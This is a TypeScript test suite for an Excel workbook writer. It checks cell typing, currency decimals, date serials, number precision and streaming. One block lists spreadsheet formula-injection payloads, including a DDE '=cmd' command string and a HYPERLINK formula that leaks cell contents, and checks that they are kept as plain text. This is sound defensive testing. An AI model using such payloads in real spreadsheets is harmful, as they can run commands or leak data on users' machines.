import { buffer } from 'node:stream/consumers'
import { dictionary } from '@hedgerow/contract/kit/dictionary'
import { columns, type Row } from '@hedgerow/contract/kit/list'
import type { Lang } from '@hedgerow/contract/kit/text'
import { readXlsx } from 'hucre/xlsx'
import { describe, expect, it } from 'vitest'
import { wallClockOf } from '../../process/clock.ts'
import { readTable } from '../spreadsheet.ts'
import { writeWorkbook } from './excel.ts'
import type { SheetColumn } from './excel-cells.ts'
import { unpack, zipEntries } from './zip.ts'

const Status = dictionary(
  'TEST_STATUS',
  { zh: '状态', en: 'Status' },
  { live: ['1', '有效', 'Live'], void: ['0', '作废', 'Void'] },
)
const sheet: SheetColumn[] = [
  { name: 'remark', column: columns.text(), title: '备注' },
  { name: 'status', column: columns.dict(Status), title: '状态' },
  { name: 'amt', column: columns.amount({ unit: 'currency' }), title: '金额' },
  { name: 'rate', column: columns.rate(), title: '汇率' },
  { name: 'cover', column: columns.percent(), title: '覆盖' },
  { name: 'count', column: columns.number(), title: '次数' },
  { name: 'day', column: columns.date(), title: '日期' },
  { name: 'flag', column: columns.flag(), title: '锁定' },
]
const decimalsOf = (currency: string) => ({ JPY: 0, USD: 2, KWD: 3 })[currency]
const row = (fields: Record<string, string | null>): Row => ({ id: '1', ...fields })

async function* batches(...all: (readonly Row[])[]) {
  yield* all
}

async function write(rows: readonly Row[], lang: Lang = 'zh_CN', of: readonly SheetColumn[] = sheet): Promise<Buffer> {
  return buffer(writeWorkbook(of, batches(rows), { sheetName: '敞口/登记', lang, decimalsOf }))
}

/** The XML of one part of the file. */
async function partOf(bytes: Buffer, name: string): Promise<string> {
  const entry = zipEntries(bytes, 50).find((part) => part.name === name)
  if (!entry) throw new Error(`no part ${name}`)
  return String(await unpack(entry, 1e9))
}
const sheetXmlOf = (bytes: Buffer) => partOf(bytes, 'xl/worksheets/sheet1.xml')

async function cellsOf(bytes: Buffer) {
  const { sheets } = await readXlsx(bytes, { readStyles: true })
  const [first] = sheets
  if (!first) throw new Error('no sheet')
  return {
    name: first.name,
    rows: first.rows,
    formatOf: (line: number, column: number) => first.cells?.get(`${line},${column}`)?.style?.numFmt,
  }
}

describe('typed cells', () => {
  const full = row({
    remark: '首单',
    status: '1',
    amt: '1234567.5',
    currency: 'USD',
    rate: '7.123456',
    cover: '12.5',
    count: '3',
    day: '20260413',
    flag: '1',
  })

  it('are numbers, days and labels in the language', async () => {
    const { rows, name } = await cellsOf(await write([full]))
    expect(name).toBe('敞口 登记')
    expect(rows[0]).toEqual(['备注', '状态', '金额', '汇率', '覆盖', '次数', '日期', '锁定'])
    const [remark, status, amt, rate, cover, count, day, flag] = rows[1] ?? []
    expect([remark, status, amt, rate, cover, count, flag]).toEqual([
      '首单',
      '有效',
      1234567.5,
      7.123456,
      12.5,
      3,
      '是',
    ])
    expect((day as Date).toISOString()).toBe('2026-04-13T00:00:00.000Z')
    const english = await cellsOf(await write([full], 'en_US'))
    expect([english.rows[1]?.[1], english.rows[1]?.[7]]).toEqual(['Live', 'Yes'])
  })

  it('say of which currency a word speaks', async () => {
    const column: SheetColumn = { name: 'status', column: columns.dict(Status, { unit: 'currency' }), title: '状态' }
    const rows = [row({ status: '1', currency: 'USD' }), row({ status: '0', currency: null })]
    const { rows: read } = await cellsOf(await write(rows, 'en_US', [column]))
    expect(read.slice(1)).toEqual([['Live USD'], ['Void']])
  })

  it('say instants as date and time on the clock of the zone', async () => {
    const column: SheetColumn = { name: 'at', column: columns.instant(), title: '时间' }
    const rows = [row({ at: '2026-04-12T17:30:15.250Z' }), row({ at: 'unknown' })]
    const options = { sheetName: 'x', lang: 'zh_CN' as const, decimalsOf, wallTimeOf: wallClockOf('Asia/Shanghai') }
    const { rows: read, formatOf } = await cellsOf(await buffer(writeWorkbook([column], batches(rows), options)))
    expect(JSON.stringify(read.slice(1))).toBe('[["2026-04-13T01:30:15.000Z"],["unknown"]]')
    expect(formatOf(1, 0)).toBe('yyyy/mm/dd hh:mm:ss')
  })

  it('carry the decimals of their own currency, and hide none of the value', async () => {
    const amounts = [
      ['1000', 'JPY'],
      ['1000', 'USD'],
      ['1000', 'KWD'],
      ['1000.123456', 'USD'],
      ['1000', 'XXX'],
      ['0.5', 'JPY'],
    ] as const
    const { formatOf } = await cellsOf(await write(amounts.map(([amt, currency]) => row({ amt, currency }))))
    expect(amounts.map((_, index) => formatOf(index + 1, 2))).toEqual([
      '#,##0',
      '#,##0.00',
      '#,##0.000',
      '#,##0.000000',
      '#,##0.00',
      '#,##0.0',
    ])
  })

  it('show rates with 4 to 10 decimals, percentages unscaled, days with slashes', async () => {
    const { formatOf } = await cellsOf(await write([full]))
    expect([3, 4, 6].map((column) => formatOf(1, column))).toEqual(['0.0000######', '0.0000######"%"', 'yyyy/mm/dd'])
  })

  it('count days as Excel does, around its 29 February 1900 too', async () => {
    const xml = await sheetXmlOf(
      await write(['19000101', '19000228', '19000301', '20260413', '99991231'].map((day) => row({ day }))),
    )
    expect([...xml.matchAll(/<c r="G\d+" s="\d+"><v>(\d+)<\/v>/g)].map(([, serial]) => serial)).toEqual([
      '1',
      '59',
      '61',
      '46125',
      '2958465',
    ])
  })

  it('leave out what is null, and keep text what is no number or day', async () => {
    const { rows } = await cellsOf(
      await write([row({ remark: null, amt: null, status: '' }), row({ amt: 'n/a', day: '20260230', status: '9' })]),
    )
    expect(rows[1] ?? []).not.toContain('null')
    expect([rows[2]?.[1], rows[2]?.[2], rows[2]?.[6]]).toEqual(['9', 'n/a', '20260230'])
  })

  it('have a frozen heading, widths and a filter over all rows', async () => {
    const xml = await sheetXmlOf(await write([full, full]))
    expect(xml).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>')
    expect(xml).toContain('<autoFilter ref="A1:H3"/>')
    expect(xml.match(/<col /g)).toHaveLength(sheet.length)
  })
})

describe('exact decimals', () => {
  const exact = [
    '0.1',
    '999999999999999',
    '-1234567890123.45',
    '0.000000123456789',
    '1000000000000',
    '100000000000000000000',
  ]
  const tooLong = [
    '1234567890123456.78',
    '9007199254740993',
    '0.1234567890123456',
    '12345678901234567890.12345678901234567890',
    '-1234567890123456789012345678901234567890',
  ]

  it('are numbers for every rate: what is behind the fifteenth digit is the noise of a division', async () => {
    const { rows } = await cellsOf(await write([row({ rate: '0.14637345811671', cover: '7.12345678901234567' })]))
    expect(rows[1]?.slice(3, 5)).toEqual([0.14637345811671, 7.12345678901235])
  })

  it('up to 15 digits are numbers, written as they are', async () => {
    const xml = await sheetXmlOf(await write(exact.map((rate) => row({ rate }))))
    expect([...xml.matchAll(/<v>([^<]*)<\/v>/g)].map(([, value]) => value)).toEqual(exact)
  })

  it('longer ones are text and come back to the digit', async () => {
    const bytes = await write([...exact, ...tooLong].map((amt) => row({ amt, currency: 'USD' })))
    const { rows } = await cellsOf(bytes)
    expect(rows.slice(1 + exact.length).map((cells) => cells[2])).toEqual(tooLong)
    const table = await readTable(bytes, 'amounts.xlsx')
    expect(table.rows.map((cells) => cells[2])).toEqual([...exact, ...tooLong])
  })
})

describe('text stays text', () => {
  const hostile = [
    '=1+1',
    '=HYPERLINK("http://example.org?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    '+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\u0000=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
  ]

  it('whatever it begins with', async () => {
    const bytes = await write(hostile.map((remark) => row({ remark })))
    const xml = await sheetXmlOf(bytes)
    expect(xml).not.toMatch(/<f[ >]/)
    const styles = await partOf(bytes, 'xl/styles.xml')
    const guarded = [...(styles.split('<cellXfs')[1]?.matchAll(/<xf [^>]*>/g) ?? [])].findIndex(([xf]) =>
      xf.includes('quotePrefix="1"'),
    )
    for (const [index, value] of hostile.entries()) {
      expect(xml, value).toContain(`<c r="A${index + 2}" s="${guarded}" t="inlineStr">`)
    }
    const { rows } = await cellsOf(bytes)
    expect(rows[1]?.[0]).toBe('=1+1')
    expect(rows[3]?.[0]).toBe("=cmd|' /C calc'!A0")
  })

  it('in headings and labels as well', async () => {
    const bytes = await write([row({ remark: 'x' })], 'zh_CN', [
      { name: 'remark', column: columns.text(), title: '=1+1' },
    ])
    expect((await cellsOf(bytes)).rows[0]?.[0]).toBe('=1+1')
    expect(await sheetXmlOf(bytes)).not.toContain('<f>')
  })

  it('without what XML cannot hold, with everything else', async () => {
    const given = [
      'a\u0000b\u0008c\u001Fd\u007F',
      'half \uD83D pair',
      '\uDE00x',
      '😀 & <b> "q" \'s\'',
      ' padded ',
      'two\r\nlines\rthree',
      '_x0041_',
      'a\uFFFFb',
    ]
    const { rows } = await cellsOf(await write(given.map((remark) => row({ remark }))))
    expect(rows.slice(1).map((cells) => cells[0])).toEqual([
      'abcd',
      'half  pair',
      'x',
      '😀 & <b> "q" \'s\'',
      ' padded ',
      'two\nlines\nthree',
      '_x0041_',
      'ab',
    ])
  })

  it('cut where Excel would call the file damaged', async () => {
    const { rows } = await cellsOf(await write([row({ remark: `${'x'.repeat(32_766)}😀` })]))
    expect(rows[1]?.[0]).toBe('x'.repeat(32_766))
  })
})

describe('the stream', () => {
  it('gives bytes before the rows have ended and asks for rows only as it is read', async () => {
    let made = 0
    async function* endless(): AsyncGenerator<Row[]> {
      for (;;) {
        made += 1
        yield Array.from({ length: 1000 }, (_, index) =>
          row({ remark: `${made}-${(index * 7919) % 1009}`, amt: `${made * index}.25`, currency: 'USD' }),
        )
      }
    }
    const stream = writeWorkbook(sheet, endless(), { sheetName: 'x', lang: 'zh_CN', decimalsOf })
    let bytes = 0
    for await (const chunk of stream) {
      bytes += (chunk as Buffer).length
      if (bytes > 200_000) break
    }
    expect(made).toBeGreaterThan(5)
    expect(made).toBeLessThan(200)
  })

  it('ends with the error of its rows', async () => {
    async function* failing(): AsyncGenerator<Row[]> {
      yield [row({ remark: 'x' })]
      throw new Error('the connection broke')
    }
    await expect(
      buffer(writeWorkbook(sheet, failing(), { sheetName: 'x', lang: 'zh_CN', decimalsOf })),
    ).rejects.toThrow('the connection broke')
  })
})
